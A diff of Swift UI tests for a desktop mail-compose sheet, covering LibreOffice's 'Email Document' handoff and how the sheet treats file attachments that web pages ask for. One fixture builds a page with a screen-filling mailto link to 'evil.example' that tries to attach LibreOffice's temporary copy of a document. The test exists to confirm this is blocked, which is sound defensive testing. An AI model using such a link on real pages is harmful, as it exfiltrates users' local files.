@@ -117,5 +117,76 @@ extension SheetTests {
             #expect(attached.map { $0["filename"] as? String } == ["Budget.odt"], "\(parts)")
             #expect(attached.first?["sha256"] as? String == sha256(Data("the budget\n".utf8)))
         }
+
+        // MARK: - LibreOffice started from a terminal
+
+        /// The sandbox's environment with a temporary directory of its own (`TMPDIR`), in
+        /// which LibreOffice makes its own (`lu<PID>….tmp`).
+        func officeEnvironment() throws -> [String: String] {
+            let temporary = sandbox.root.appendingPathComponent("tmp")
+            try FileManager.default.createDirectory(at: temporary, withIntermediateDirectories: true)
+            var environment = environment
+            environment["TMPDIR"] = temporary.path
+            return environment
+        }
+
+        /// The files under LibreOffice's temporary directories in the sandbox's `TMPDIR`.
+        func officeTemporaryFiles() -> [URL] {
+            let temporary = sandbox.root.appendingPathComponent("tmp")
+            let walker = FileManager.default.enumerator(at: temporary, includingPropertiesForKeys: nil)
+            return (walker?.allObjects as? [URL] ?? []).filter {
+                $0.path.contains("/lu") && (try? $0.resourceValues(forKeys: [.isRegularFileKey]))?.isRegularFile == true
+            }
+        }
+
+        /// Issue 33: LibreOffice's real "Email Document" from a LibreOffice started outside
+        /// any app scope (as from a terminal, or on openbox, Xfce, i3), where Debian's
+        /// senddoc backgrounds xdg-email and exits: the sheet lists the document ticked,
+        /// and Send mails it, byte for byte the file LibreOffice handed over (Python's
+        /// email package reads the message).
+        @Test func libreOfficeEmailDocumentOutsideAnyScopeSendsTheDocument() throws {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let document = try sandbox.write("The budget, line by line.\n", to: "files/Budget.txt").path
+            let office = try LibreOffice(environment: try officeEnvironment(), directory: sandbox.root)
+            try office.emailDocument(document)
+            let steps = try desktop.drive([
+                "wait-sheet", "state:Budget.txt", screenshot("libreoffice-no-scope-document"), "type:To:ann@example.com",
+                "press:Send", "wait-gone",
+            ], timeout: 30)
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == true, "\(row)")
+            let message = try #require(arrived(at: server))
+            let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+            let attached = parts.filter { $0["disposition"] as? String == "attachment" }
+            #expect(attached.map { $0["filename"] as? String } == ["Budget.txt"], "\(parts)")
+            let handedOver = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Budget.txt" })
+            #expect(attached.first?["sha256"] as? String == sha256(try Data(contentsOf: handedOver)))
+            #expect(outcomes().last?.contains("not attached") == false, "\(outcomes())")
+        }
+
+        /// Rule 8 with LibreOffice running: a web page whose link names the document
+        /// LibreOffice has just handed over, in its own temporary directory, gets it listed
+        /// unticked as Chromium's ask; only LibreOffice's own xdg-email is trusted with it.
+        @Test func aPageNamingLibreOfficesTemporaryFileGetsItUnticked() throws {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let document = try sandbox.write("Salaries\n", to: "files/Salaries.txt").path
+            let office = try LibreOffice(environment: try officeEnvironment(), directory: sandbox.root)
+            try office.emailDocument(document)
+            _ = try desktop.drive(["wait-sheet", "state:Salaries.txt", "press:Cancel", "wait-gone"], timeout: 30)
+            let inside = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Salaries.txt" }).path
+            let page = try BrowserPage(
+                body: "<a href=\"mailto:support@evil.example?subject=Support&amp;attach=file://\(inside)\" "
+                    + "style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
+                desktop: desktop, environment: environment, directory: sandbox.root)
+            try page.click(x: 400, y: 300)
+            let steps = try desktop.drive([
+                "wait-sheet", "wait-label:Chromium asks to attach", "state:\(inside)", "press:Cancel", "wait-gone",
+            ], timeout: 30)
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == false, "\(row)")
+            withExtendedLifetime(office) {}
+        }
     }
 }
